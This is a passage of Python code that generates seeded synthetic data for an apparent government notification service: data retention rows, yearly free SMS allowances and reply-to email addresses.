    text = content.replace("{days}", str(template_texts.VERSION_DAYS[number % 8]))
    return text + template_texts.VERSION_FOOTER if number >= 3 else text


def generate_retention(seed: int, plan: ServicePlan, anchor: date) -> list[dict]:
    """Custom data retention for about one service in six; the rest keep the 7-day default."""
    rng = rng_for(seed, "retention", plan.id)
    if plan.id == PARKING_SERVICE_ID:
        chosen = list(PARKING_RETENTION)
    elif plan.id != NOTIFY_SERVICE_ID and rng.random() < 0.16:
        channels = rng.sample(plan.channels, rng.randint(1, len(plan.channels)))
        chosen = [
            (
                new_uuid(rng),
                channel,
                rng.choices((7, 14, 30, 60, 90, 3), (15, 20, 30, 15, 15, 5))[0],
            )
            for channel in _ordered(channels)
        ]
    else:
        return []
    rows = []
    for retention_id, channel, days in chosen:
        created_days_ago = rng.randint(1, max(1, plan.created_days_ago))
        updated = _later_change(rng, anchor, created_days_ago, 0.2)
        rows.append(
            {
                "id": retention_id,
                "service_id": plan.id,
                "notification_type": channel,
                "days_of_retention": days,
                "created_at": stored(moment(rng, anchor, created_days_ago)),
                "updated_at": stored(updated) if updated else None,
            }
        )
    return rows


def _later_change(
    rng: random.Random, anchor: date, created_days_ago: int, chance: float
) -> datetime | None:
    """Sometimes a change after creation, never later than the day before the anchor."""
    if created_days_ago < 2 or rng.random() >= chance:
        return None
    return moment(rng, anchor, rng.randint(1, created_days_ago - 1))


def _ordered(channels: list[str]) -> list[str]:
    """Channels as the API lists retention: email, sms, letter."""
    return [channel for channel in CHANNELS if channel in channels]


def generate_allowances(seed: int, plan: ServicePlan, anchor: date) -> list[dict]:
    """One free SMS allowance per financial year from FY2016 to the anchor's year.

    About 8% of services have a custom allowance from some year on; Notify's own is 250,000.
    """
    rng = rng_for(seed, "allowances", plan.id)
    this_year = financial_year_of(anchor)
    custom, custom_from = None, this_year + 1
    if plan.id == NOTIFY_SERVICE_ID:
        custom, custom_from = 250_000, FIRST_FINANCIAL_YEAR
    elif plan.id != PARKING_SERVICE_ID and rng.random() < 0.08:
        custom = rng.choice((0, 5_000, 15_000, 50_000, 75_000, 100_000, 250_000))
        custom_from = rng.randint(FIRST_FINANCIAL_YEAR, this_year)
    rows = []
    for year in range(FIRST_FINANCIAL_YEAR, this_year + 1):
        default = default_allowance(plan.organisation_type, year)
        value = default
        if custom is not None and year >= custom_from:
            # A custom value that happens to equal the default would not look custom.
            value = custom if custom != default else default + 10_000
        rows.append(
            {"service_id": plan.id, "financial_year_start": year, "free_sms_fragment_limit": value}
        )
    return rows


def generate_reply_to(
    seed: int, plan: ServicePlan, anchor: date, has_email_templates: bool
) -> list[dict]:
    """Reply-to addresses for most services that send email; some trial services have none."""
    rng = rng_for(seed, "reply-to", plan.id)
    chance = 0.6 if plan.restricted else 0.95
    if plan.id == NOTIFY_SERVICE_ID or not has_email_templates or rng.random() > chance:
        return []
    domain = plan.organisation.domain if plan.organisation else "notifications.service.gov.uk"
    locals_ = ["noreply", local_part(plan.name)[:30], "enquiries", "customer.services"]
    count = rng.choices((1, 2, 3), (70, 25, 5))[0]
    rows = []
    for position in range(count):
        created_days_ago = rng.randint(1, max(1, plan.created_days_ago))
        updated = _later_change(rng, anchor, created_days_ago, 0.3)
        rows.append(
            {
                "id": new_uuid(rng),
                "service_id": plan.id,
                "email_address": f"{locals_[position]}@{domain}",
                "is_default": int(position == 0),
                "archived": int(position > 0 and rng.random() < 0.1),
                "created_at": stored(moment(rng, anchor, created_days_ago)),
                "updated_at": stored(updated) if updated else None,
            }
        )
    return rows
